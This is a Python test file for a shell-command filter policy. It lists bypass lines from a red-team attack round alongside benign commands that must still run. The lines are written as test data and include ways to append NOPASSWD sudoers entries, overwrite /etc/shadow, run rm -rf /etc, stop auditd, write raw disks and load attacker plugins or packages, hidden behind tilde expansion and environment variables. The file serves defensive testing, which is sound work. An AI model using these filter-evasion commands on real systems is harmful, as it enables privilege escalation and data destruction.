"""Attack s28f (the twenty-ninth round on the command filter), findings 1, 2, 3, 5, 8, 11, 18 and
23: tildes bash expands in an assignment's value (`GIT_TRACE=~root/..`, `KRB5CCNAME=FILE:~...`,
`HOME=~root/..` then `~`, `cd` and cdable_vars), dcfldd's `verifylog`/dc3dd's `fhod` and `ofs=~`,
wget2's own files, rlwrap's filter, `--restore` dumps, valgrind's `%q{VAR}` and clang's profile
tokens, and programs' options given by the environment (PIP_*, npm_config_*, SYSTEM_WGETRC).
The tester's lines and their siblings, held (or refused) typed, as an exec command and behind
sudo; the honest lines beside them that still run."""

from __future__ import annotations

from bastion.command_control.policy.model import Policy
from tests.policy_rows import assert_held_or_runs, typed_and_exec
from tests.rows import each

# (line, "deny" where the absolute spelling is refused, else "held": deny or confirm)
ROWS = [
    # F1 a tilde after `=` (and after `:` for KRB5CCNAME's TYPE:PATH) names the written file
    ("GIT_TRACE=~root/../etc/sudoers git --version", "deny"),
    ("GIT_TRACE=~/../../../../etc/sudoers git --version", "deny"),
    ("env GIT_TRACE=~root/../etc/sudoers git --version", "deny"),
    ("export GIT_TRACE=~root/../etc/sudoers; git --version", "deny"),
    ("sudo GIT_TRACE=~root/../etc/sudoers git --version", "deny"),
    ("GIT_TRACE2=~root/../etc/sudoers git --version", "deny"),
    ("GIT_TRACE2_EVENT=~root/../etc/sudoers.d/x git --version", "deny"),
    ("GIT_TRACE_PACKET=~root/../etc/sudoers git ls-remote https://example.org/x", "deny"),
    ("KRB5CCNAME=FILE:~root/../etc/sudoers kinit alice", "deny"),
    ("KRB5CCNAME=WRFILE:~root/../etc/shadow kinit alice", "deny"),
    ("export KRB5CCNAME=FILE:~root/../etc/sudoers; kinit alice", "deny"),
    ("HISTFILE=x:~root/../etc/sudoers bash -i", "held"),
    # F2 HOME given a tilde value, then `~`, `cd`, `cd ~`; cdable_vars the same
    ("HOME=~root/..; rm -rf ~/etc", "deny"), ("HOME=~root/..; cd; rm -rf etc", "deny"),
    ("HOME=~root/..; rm -rf ~/usr ~/var ~/boot", "deny"),
    ("HOME=~root/../etc; echo 'x ALL=(ALL) NOPASSWD: ALL' >> ~/sudoers", "deny"),
    ("HOME=~root/../etc; cd; echo 'x ALL=(ALL) NOPASSWD: ALL' >> sudoers", "deny"),
    ("HOME=~root/../etc; cd ~; tee -a sudoers.d/x", "deny"),
    ("export HOME=~root/../etc; cd; echo x >> shadow", "deny"),
    ("HOME=~root/..; chmod 777 ~/etc/shadow", "deny"),
    ("HOME=~root/../etc/ssh; cp /tmp/x ~/sshd_config", "held"),
    ("HOME=/; HOME=~/etc; echo x >> ~/sudoers", "deny"),
    ("HOME='~root'; cd; rm -rf etc", "held"),
    ("shopt -s cdable_vars; x=~root/../etc; cd x; echo x >> sudoers", "deny"),
    # F3 dcfldd's verifylog (a file, or a command dcfldd runs), dc3dd's fhod, ofs=~ / hofs=~
    ("dcfldd if=/tmp/x vf=/tmp/x verifylog:='rm -rf /etc'", "deny"),
    ("dcfldd if=/tmp/x vf=/tmp/x verifylog:='systemctl stop auditd'", "deny"),
    ("dcfldd if=/tmp/x vf=/tmp/x verifylog=/etc/sudoers", "deny"),
    ("sudo dcfldd if=/tmp/x vf=/tmp/x verifylog=/etc/shadow", "deny"),
    ("dc3dd if=/tmp/x fhod=/dev/sda hash=md5", "deny"),
    ("dc3dd if=/dev/zero fhod=/dev/nvme0n1 hash=sha1", "deny"),
    ("dc3dd if=/tmp/x ofs=~root/../etc/sudoers.d/x.000 ofsz=1M", "held"),
    ("dc3dd if=/tmp/x hofs=~root/../etc/sudoers.d/y.000 ofsz=1M hash=md5", "held"),
    # F5 wget2's own files (FORMAT: stripped), its gpg folder, plugins, startup file
    ("wget2 --stats-dns=/etc/sudoers https://x/", "deny"),
    ("wget2 --stats-server=/etc/shadow https://x/", "deny"),
    ("wget2 --stats-site=csv:/etc/sudoers https://x/", "deny"),
    ("wget2 --stats-ocsp=json:/etc/sudoers https://x/", "deny"),
    ("wget2 --stats-tls=/etc/sudoers https://x/", "deny"),
    ("wget2 --stats-dns=/dev/sda https://x/", "deny"),
    ("wget2 --tls-session-file=/etc/sudoers https://x/", "deny"),
    ("wget2 --ocsp-file=/etc/sudoers https://x/", "deny"),
    ("wget2 --hpkp-file=/etc/sudoers https://x/", "deny"),
    ("sudo wget2 --stats-site /etc/sudoers https://x/", "deny"),
    ("wget2 --gnupg-homedir=/etc https://x/", "held"),
    ("wget2 --plugin=/tmp/evil.so https://x/", "held"),
    ("wget2 --local-plugin /tmp/evil.so https://x/", "held"),
    ("HOME=/tmp/h wget2 https://x/", "held"), ("WGET2RC=/tmp/x wget2 https://x/", "held"),
    # siblings: aria2c's settings file, input list (per-URI dir=/out=) and hooks
    ("aria2c --conf-path=/tmp/c https://x/", "held"), ("aria2c -i /tmp/list", "held"),
    ("aria2c --on-download-complete=/bin/rm https://x/", "held"),
    ("HOME=/tmp/h aria2c https://x/", "held"),
    # F8 rlwrap's filter: judged as a command, and held whatever it is
    ("rlwrap -z 'rm -rf /etc' cat", "deny"), ("rlwrap -z'rm -rf /etc' cat", "deny"),
    ("rlwrap -cz 'rm -rf /etc' cat", "deny"), ("rlwrap --filter='rm -rf /etc' cat", "deny"),
    ("rlwrap --filt='rm -rf /etc' cat", "deny"),
    ("rlwrap --filter 'systemctl stop auditd' cat", "deny"),
    ("rlwrap -z 'tee -a /etc/sudoers' cat", "deny"),
    ("rlwrap -z 'pipeline rm -rf /etc' cat", "held"), ("rlwrap -z logger cat", "held"),
    ("sudo rlwrap -z 'rm -rf /etc' cat", "deny"),
    # F11 a dump or list naming the files changed
    ("setfacl --restore=/tmp/acl", "held"), ("setfacl --restore /tmp/acl", "held"),
    ("printf '# file: /etc/shadow\\nuser:nobody:rw-\\n' | setfacl --restore=-", "held"),
    ("getfacl -R / | setfacl --restore=-", "held"), ("setfacl --res /tmp/acl", "held"),
    ("setfattr --restore=/tmp/attrs", "held"), ("sudo setfattr --restore /tmp/attrs", "held"),
    ("restorecon -f /tmp/list", "held"), ("setfiles -f /tmp/list /etc/selinux/x", "held"),
    # F18 options given by the environment
    ("PIP_TARGET=/etc pip install /tmp/evilpkg-1.0-py3-none-any.whl", "held"),
    ("PIP_TARGET=/etc python3 -m pip install /tmp/evilpkg-1.0-py3-none-any.whl", "held"),
    ("env PIP_TARGET=/etc pip3 install /tmp/evilpkg-1.0-py3-none-any.whl", "held"),
    ("export PIP_TARGET=/etc; pip install /tmp/evilpkg-1.0-py3-none-any.whl", "held"),
    ("PIP_ROOT=/ pip install /tmp/evilpkg-1.0-py3-none-any.whl", "held"),
    ("PIP_SRC=/etc pip install -e git+https://evil.example/x#egg=x", "held"),
    ("PIP_PREFIX=/ pip install x", "held"), ("PIP_CONFIG_FILE=/tmp/p pip install x", "held"),
    ("sudo PIP_TARGET=/etc pip install x", "held"),
    ("SYSTEM_WGETRC=/tmp/evil/wgetrc wget https://evil.example/", "held"),
    ("npm_config_prefix=/etc npm install -g x", "held"),
    ("NPM_CONFIG_SCRIPT_SHELL=/tmp/evil npm run x", "held"),
    ("APT_CONFIG=/tmp/evil apt-get update", "held"), ("MANOPT='-P /tmp/evil' man ls", "held"),
    ("PARALLEL='--pipe rm -rf /etc' parallel echo ::: a", "held"),
    ("RIPGREP_CONFIG_PATH=/tmp/rgrc rg x", "held"), ("HGRCPATH=/tmp/hgrc hg status", "held"),
    ("GIT_WORK_TREE=/etc git checkout -- .", "held"),
    ("SVN_SSH='rm -rf /etc' svn up", "deny"), ("FZF_DEFAULT_COMMAND='rm -rf /etc' fzf", "deny"),
    # F23 valgrind's %q{VAR}; clang's profile tokens; the sanitizers' log_path and programs
    ("X=sudoers valgrind --log-file=/etc/%q{X} true", "held"),
    ("X=/etc/shadow valgrind --log-file=%q{X} true", "held"),
    ("export X=/etc/sudoers; valgrind --log-file=%q{X} true", "held"),
    ("X=sudoers valgrind --xml=yes --xml-file=/etc/%q{X} true", "held"),
    ("X=sudoers sudo -E valgrind --log-file=/etc/%q{X} true", "held"),
    ("valgrind --log-file=/etc/sudoers%p true", "held"),
    ("valgrind --db-command='rm -rf /etc' --db-attach=yes true", "deny"),
    ("LLVM_PROFILE_FILE=/etc/sudoers%c ./instrumented", "deny"),
    ("LLVM_PROFILE_FILE=%t/x ./instrumented", "held"),
    ("ASAN_OPTIONS=log_path=/etc/sudoers ./a", "held"),
    ("UBSAN_OPTIONS=external_symbolizer_path=/tmp/evil ./a", "held"),
]
# honest lines that still run (typed and as an exec command)
HONEST = [
    "GIT_TRACE=1 git status", "GIT_TRACE=/tmp/trace git --version", "HOME=~/x; ls ~",
    "KRB5CCNAME=FILE:/tmp/krb5cc_alice kinit alice", "HOME=/tmp/h; cd; ls",
    "dcfldd if=/dev/zero of=/tmp/x bs=1M count=1 verifylog=/tmp/v", "dc3dd if=/tmp/x ofs=/tmp/y.000 ofsz=1M",
    "wget2 https://x/", "wget2 -O /tmp/out https://x/", "aria2c -d /tmp/dl -x4 https://x/",
    "wget2 --stats-site=csv:/tmp/s.csv https://x/",
    "rlwrap cat", "rlwrap -c python3", "setfacl -m u:alice:r /tmp/x", "getfacl /tmp/x",
    "setfattr -n user.x -v 1 /tmp/x", "restorecon -Rv /var/www",
    "PIP_INDEX_URL=https://pypi.example/simple pip install requests",
    "PIP_NO_CACHE_DIR=1 pip install requests", "npm_config_registry=https://r.example npm install x",
    "valgrind --log-file=/tmp/vg.%p.log ./a.out", "valgrind ./a.out",
    "LLVM_PROFILE_FILE=/tmp/p-%p-%m.profraw ./a", "ASAN_OPTIONS=detect_leaks=0 ./a",
    "FZF_DEFAULT_COMMAND='fd --type f' fzf",
]


@each(("line", "action"), ROWS)
def test_attack_s28f_a_lines_are_held_typed_and_as_exec(default_policy: Policy, line: str,
                                                       action: str) -> None:
    for verdict in typed_and_exec(default_policy, line):
        if action == "deny":
            assert verdict.action == "deny", verdict
        else:
            assert verdict.action in ("deny", "confirm"), verdict
    if not line.startswith("sudo ") and ";" not in line and "|" not in line:
        assert_held_or_runs(default_policy, f"sudo {line}", True)


@each("line", HONEST)
def test_attack_s28f_a_honest_lines_still_run(default_policy: Policy, line: str) -> None:
    assert_held_or_runs(default_policy, line, False)
